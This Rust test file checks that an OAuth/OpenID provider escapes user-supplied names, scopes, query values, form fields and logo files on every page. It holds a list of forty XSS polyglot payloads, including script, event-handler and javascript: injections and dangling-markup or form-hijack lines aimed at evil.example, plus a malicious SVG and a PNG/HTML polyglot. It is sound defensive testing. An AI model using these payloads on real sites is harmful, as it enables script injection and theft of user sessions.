//! XS: whatever is typed stays text.

use lanyard::protocol::client::{Client, Kind, SecretRecord};
use lanyard::protocol::ids::ClientId;
use lanyard::protocol::registration::Draft;
use lanyard::store::clients;
use scraper::Html;

use super::*;
use crate::world::everywhere;

/// What breaks out of some context somewhere.
const POLYGLOTS: [&str; 40] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext></table><mglyph><style><img src onerror=alert(1)>",
    "\" onfocus=alert(1) autofocus x=\"",
    "' onfocus=alert(1) autofocus x='",
    "` onfocus=alert(1) autofocus x=`",
    "x onfocus=alert(1) autofocus",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=csrf>",
    "</form><form action=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<img src='//evil.example/?",
    "<img src=\"//evil.example/?",
    "<!--",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\u{2028}alert(1)\u{2029}",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}{% raw %}",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)",
    "\u{ff1c}script\u{ff1e}alert(1)",
];

/// Every element with the names of its attributes, in order: what a page is built of, whatever its texts say. Addresses are
/// looked at, too: none leads to a script or away.
fn skeleton(page: &Page) -> Vec<String> {
    let document = Html::parse_document(&page.html);
    let mut bones = Vec::new();
    for element in document
        .tree
        .nodes()
        .filter_map(|node| node.value().as_element())
    {
        let mut names: Vec<_> = element.attrs().map(|(name, _)| name).collect();
        names.sort_unstable();
        bones.push(format!("{} {}", element.name(), names.join(" ")));
        for (name, value) in element.attrs() {
            assert!(
                !name.starts_with("on") && name != "style" && name != "srcdoc",
                "{}: {name}={value}",
                page.url
            );
            if matches!(name, "href" | "src" | "action" | "formaction") {
                let ours =
                    value.starts_with('/') && !value.starts_with("//") || value.starts_with('#');
                assert!(ours, "{}: {name}={value}", page.url);
            }
        }
    }
    bones
}

/// The page is built like the one with a harmless text in the same place.
fn same_bones(harmless: &Page, hostile: &Page, text: &str) {
    assert_eq!(hostile.status, harmless.status, "{text}: {}", hostile.url);
    assert_eq!(
        skeleton(hostile),
        skeleton(harmless),
        "{text}: {}\n{}",
        hostile.url,
        hostile.html
    );
}

/// A client with a name and a scope that registration would refuse, as if they had come in another way.
async fn add_client(provider: &Provider, owner: &User, id: &str, name: &str, scope: &str) {
    let draft = Draft {
        redirect_uris: vec![CALLBACK.into(), "https://rp.example/other".into()],
        scope: Some("openid profile".into()),
        ..Draft::new("Placeholder", Kind::Web)
    };
    let (_, mut metadata) = draft.check().unwrap();
    metadata.scope = format!("openid profile {scope}").parse().unwrap();
    let now = provider.clock.now();
    let client = Client {
        id: ClientId(id.to_owned()),
        owner: Some(owner.id),
        name: name.to_owned(),
        metadata,
        secret: Some(SecretRecord::new("lys_secret", now)),
        previous_secret: None,
        disabled_at: None,
        created_at: now,
        updated_at: now,
    };
    let job = provider
        .app
        .db
        .write(move |c| Box::pin(async move { clients::insert(c, &client).await }));
    job.await.unwrap();
}

/// The text as a scope word, without the characters that a scope cannot have.
fn as_scope(text: &str) -> String {
    let word: String = text
        .chars()
        .filter(|c| matches!(c, '\x21' | '\x23'..='\x5b' | '\x5d'..='\x7e'))
        .collect();
    format!("x:{word}")
}

/// Every page that shows a client's name, its scope, or the name of a person.
async fn pages_of(mara: &mut Browser, stranger: &mut Browser, id: &str, scope: &str) -> Vec<Page> {
    let words = format!("openid profile {scope}");
    let asks = with(
        asks(id, CALLBACK),
        [("scope", &words), ("prompt", "consent")],
    );
    let login = stranger.open(&authorize(&asks)).await;
    assert_eq!(login.path(), "/login");
    let sign_up = stranger
        .open(&format!("/sign-up?flow={}", login.query("flow").unwrap()))
        .await;
    let refused = with(asks.clone(), [("redirect_uri", "https://evil.example/")]);
    let consent = mara.open(&authorize(&asks)).await;
    assert_eq!(consent.path(), "/consent", "{}", consent.html);
    let mut pages = vec![
        login,
        sign_up,
        stranger.open(&authorize(&refused)).await,
        mara.open(&authorize(&refused)).await,
    ];
    let (action, fields) = consent.form("consent-form", Some("approve"));
    mara.post(&action, &fields).await;
    pages.push(consent);
    for path in [
        "/account".to_owned(),
        "/account/apps".to_owned(),
        format!("/account/apps/{id}/remove"),
        "/apps".to_owned(),
        format!("/apps/{id}"),
        format!("/apps/{id}?show=env"),
        format!("/apps/{id}?show=json"),
        format!("/apps/{id}/rotate"),
        format!("/apps/{id}/delete"),
        format!("/apps/{id}/redirect-uris/add?uri=https://rp.example/third"),
    ] {
        let page = mara.open(&path).await;
        assert_eq!(page.status, 200, "{path}");
        pages.push(page);
    }
    pages
}

#[tokio::test]
async fn xs_01_names_and_scopes_are_text_on_every_page() {
    everywhere(async |provider| {
        let mut user = provider.add_user("mara").await;
        let mut mara = Browser::new(&provider);
        mara.sign_in("mara").await;
        let mut baseline: Option<Vec<Page>> = None;
        for (number, text) in ["Harmless"].into_iter().chain(POLYGLOTS).enumerate() {
            user.name = text.to_owned();
            let (row, now) = (user.clone(), provider.clock.now());
            let job = provider.app.db.write(move |c| {
                Box::pin(async move { lanyard::store::users::update_profile(c, &row, now).await })
            });
            job.await.unwrap();
            let (id, scope) = (format!("client-{number:06}"), as_scope(text));
            add_client(&provider, &user, &id, text, &scope).await;
            let mut stranger = Browser::new(&provider);
            let pages = pages_of(&mut mara, &mut stranger, &id, &scope).await;
            match &baseline {
                None => baseline = Some(pages),
                Some(harmless) => {
                    for (harmless, hostile) in harmless.iter().zip(&pages) {
                        same_bones(harmless, hostile, text);
                    }
                }
            }
            let key = ClientId(id);
            let job = provider
                .app
                .db
                .write(move |c| Box::pin(async move { clients::remove(c, &key).await }));
            assert!(job.await.unwrap());
        }
    })
    .await;
}

/// Every page, by its address, read from the source so that a new one is attacked from its first day.
fn pages(client_id: &str) -> Vec<String> {
    csrf::paths(csrf::routes().1)
        .map(|(path, _)| {
            path.replace("/new/{kind}", "/new/web")
                .replace("{id}", client_id)
        })
        .collect()
}

#[tokio::test]
async fn xs_02_what_a_request_brings_is_text_on_every_page() {
    everywhere(async |provider| {
        let scene = Scene::new(&provider).await;
        let mut signed_in = scene.browser.clone();
        let paths = pages(&scene.app.client_id);
        assert!(
            paths.len() > 15,
            "the routes are written in another way: {paths:?}"
        );
        for path in paths
            .iter()
            .map(String::as_str)
            .chain(["/authorize", "/nothing"])
        {
            let query = |text: &str| {
                let names = [
                    "error",
                    "error_description",
                    "error_hint",
                    "state",
                    "login_hint",
                    "user_code",
                    "search",
                    "page",
                    "return",
                    "done",
                    "uri",
                    "show",
                    "saved",
                    "why",
                    "kept",
                    "name",
                    "email",
                    "invitation",
                    "another",
                    "client_id",
                ];
                let pairs = names.map(|name| (name, text));
                let query = form_urlencoded::Serializer::new(String::new())
                    .extend_pairs(pairs)
                    .finish();
                format!("{path}?{query}")
            };
            let mut stranger = Browser::new(&provider);
            let harmless = [
                stranger.open_once(&query("harmless")).await,
                signed_in.open_once(&query("harmless")).await,
            ];
            for text in POLYGLOTS {
                let hostile = [
                    stranger.open_once(&query(text)).await,
                    signed_in.open_once(&query(text)).await,
                ];
                for (harmless, hostile) in harmless.iter().zip(&hostile) {
                    // One that is too long is refused before any page is made.
                    if hostile.status != 414 {
                        same_bones(harmless, hostile, text);
                    }
                }
            }
        }
    })
    .await;
}

#[tokio::test]
async fn xs_02_also_in_the_request_of_an_app() {
    everywhere(async |provider| {
        let mut scene = Scene::new(&provider).await;
        for name in [
            "login_hint",
            "state",
            "nonce",
            "ui_locales",
            "acr_values",
            "display",
            "x",
        ] {
            let asks = scene.asks();
            let mut stranger = Browser::new(&provider);
            let harmless = stranger
                .open(&authorize(&with(asks.clone(), [(name, "harmless")])))
                .await;
            assert_eq!(harmless.path(), "/login");
            for text in POLYGLOTS {
                let page = stranger
                    .open(&authorize(&with(asks.clone(), [(name, text)])))
                    .await;
                same_bones(&harmless, &page, text);
            }
        }
        // Those that are refused are explained to the app's owner, on a page.
        let owner = scene.user.clone();
        add_client(&provider, &owner, "mine-000000", "Mine", "x").await;
        for name in ["redirect_uri", "client_id"] {
            let asks = asks("mine-000000", CALLBACK);
            let harmless = scene.ask(&with(asks.clone(), [(name, "harmless")])).await;
            for text in POLYGLOTS {
                let page = scene.ask(&with(asks.clone(), [(name, text)])).await;
                assert_eq!(page.status, harmless.status);
                // The difference is marked, which is an element more or less.
                let unmarked = |page: &Page| {
                    skeleton(page)
                        .into_iter()
                        .filter(|bone| bone != "mark ")
                        .collect::<Vec<_>>()
                };
                assert_eq!(
                    unmarked(&page)
                        .iter()
                        .filter(|bone| bone.starts_with("script") || bone.starts_with("img"))
                        .count(),
                    0
                );
                if name == "client_id" {
                    same_bones(&harmless, &page, text);
                }
            }
        }
    })
    .await;
}

#[tokio::test]
async fn xs_04_in_forms_that_come_back_too() {
    everywhere(async |provider| {
        let mut scene = Scene::new(&provider).await;
        let register = scene.browser.open("/apps/new/web").await;
        let mut stranger = Browser::new(&provider);
        let sign_up = stranger.open("/sign-up").await;
        let login = stranger.open("/login").await;
        let mut harmless: Option<[Page; 4]> = None;
        for text in ["harmless"].into_iter().chain(POLYGLOTS) {
            let kept = [
                ("name", ""),
                ("homepage", text),
                ("redirect_uris", text),
                ("more_scopes", text),
                ("scope", text),
            ];
            let pages = [
                scene
                    .browser
                    .submit(&register, "app-form", None, &kept)
                    .await,
                stranger
                    .submit(
                        &sign_up,
                        "sign-up-form",
                        None,
                        &[("name", text), ("email", text), ("password", "x")],
                    )
                    .await,
                // Sent without its token, a form is offered again with everything in it.
                stranger
                    .submit(
                        &sign_up,
                        "sign-up-form",
                        None,
                        &[("name", text), ("csrf", text)],
                    )
                    .await,
                stranger
                    .submit(
                        &login,
                        "login-form",
                        None,
                        &[("login", text), ("csrf", text), ("return", text)],
                    )
                    .await,
            ];
            match &harmless {
                None => harmless = Some(pages),
                Some(harmless) => {
                    for (number, (harmless, hostile)) in harmless.iter().zip(&pages).enumerate() {
                        // The form with all its mistakes lists as many as there are, so only what they are made of is compared.
                        if number >= 2 {
                            same_bones(harmless, hostile, text);
                        } else {
                            assert_eq!(hostile.status, 422, "{text}");
                            let known: std::collections::BTreeSet<_> =
                                ["p ", "li ", "a href", "div class id", "ul ", "h2 "].into();
                            let plain: std::collections::BTreeSet<_> =
                                skeleton(harmless).into_iter().collect();
                            for bone in skeleton(hostile) {
                                let attributes: Vec<_> = bone.split(' ').collect();
                                let tied = attributes.contains(&"aria-describedby")
                                    || attributes.contains(&"class")
                                    || attributes.contains(&"autofocus");
                                let familiar =
                                    plain.contains(&bone) || known.contains(bone.as_str()) || tied;
                                assert!(familiar, "{text}: {bone}");
                                assert!(
                                    !["script", "svg", "img", "iframe", "base", "meta", "form"]
                                        .contains(&attributes[0])
                                        || plain.contains(&bone),
                                    "{text}: {bone}"
                                );
                            }
                        }
                    }
                }
            }
        }
    })
    .await;
}

#[tokio::test]
async fn xs_04_in_answers_that_are_no_pages() {
    everywhere(async |provider| {
        let mut scene = Scene::new(&provider).await;
        for text in POLYGLOTS {
            // An address is built of unreserved characters only.
            let page = scene.ask(&with(scene.asks(), [("state", text)])).await;
            let unreserved = |c: char| c.is_ascii_alphanumeric() || "-._~:/?&=%".contains(c);
            assert!(page.url.chars().all(unreserved), "{}", page.url);
            assert_eq!(page.query("state").as_deref(), Some(text));
            for (name, value) in &page.headers {
                assert!(
                    value.to_str().is_ok_and(|value| !value.contains('<')),
                    "{name}"
                );
            }
            // An answer to a program is JSON and says so.
            let form = [("grant_type", text), ("scope", text), ("code", text)];
            let answer = provider.post("/token", form, Some(&scene.basic)).await;
            refused(&answer, 400, "unsupported_grant_type");
            assert_eq!(answer.headers["x-content-type-options"], "nosniff");
            assert!(!answer.text.contains('<'), "{}", answer.text);
        }
    })
    .await;
}

#[tokio::test]
async fn xs_12_dangling_markup_swallows_nothing() {
    everywhere(async |provider| {
        let user = provider.add_user("mara").await;
        let mut stranger = Browser::new(&provider);
        for (number, name) in [
            "<img src='//evil.example/?",
            "<a href=\"//evil.example/?",
            "<textarea>",
            "<plaintext>",
            "<title>",
        ]
        .into_iter()
        .enumerate()
        {
            let id = format!("dangling-{number:06}");
            add_client(&provider, &user, &id, name, "x").await;
            let page = stranger
                .open(&authorize(&with(
                    asks(&id, CALLBACK),
                    [("scope", "openid")],
                )))
                .await;
            assert!(page.text("main p.lead").contains(name), "{}", page.html);
            assert!(page.has("form#login-form input[name=csrf]"), "{name}");
            let policy = page.headers["content-security-policy"].to_str().unwrap();
            assert!(
                policy.contains("img-src 'self'") && policy.contains("default-src 'none'"),
                "{policy}"
            );
        }
    })
    .await;
}

/// The operator's file is served as it is: as what it is a picture of, and nothing in it does anything.
#[tokio::test]
async fn xs_05_the_logo_of_the_house_is_shown_and_runs_nothing() {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("logo");
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>";
    // A picture that is a page as well.
    let polyglot = b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>";
    for (content, media_type) in [(svg.as_bytes(), "image/svg+xml"), (polyglot, "image/png")] {
        std::fs::write(&file, content).unwrap();
        let with_logo = |settings: &mut lanyard::config::Settings| {
            settings.branding.logo_file = Some(file.clone());
        };
        let mode = lanyard::config::SessionMode::Database;
        crate::world::matrix::each_engine_with(mode, with_logo, async |provider| {
            let mut browser = Browser::new(&provider);
            let page = browser.open("/login").await;
            assert!(
                !page.html.contains("alert(1)"),
                "it is named, not written in"
            );
            let src = page.attribute(".brand img", "src").expect("the logo");
            let answer = provider.get(&src, None).await;
            assert_eq!(answer.status, 200);
            assert_eq!(answer.headers[header::CONTENT_TYPE], media_type);
            assert_eq!(answer.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
            let policy = answer.headers[header::CONTENT_SECURITY_POLICY]
                .to_str()
                .unwrap();
            assert!(
                policy.contains("default-src 'none'") && policy.contains("sandbox"),
                "{policy}"
            );
            assert!(!policy.contains("script-src"), "{policy}");
            assert_eq!(
                answer.headers["cross-origin-resource-policy"],
                "same-origin"
            );
            for wrong in [
                "/brand/0000000000000000/logo",
                "/brand/%2e%2e/logo",
                "/brand/x/../logo",
            ] {
                assert_eq!(provider.get(wrong, None).await.status, 404, "{wrong}");
            }
        })
        .await;
    }
}
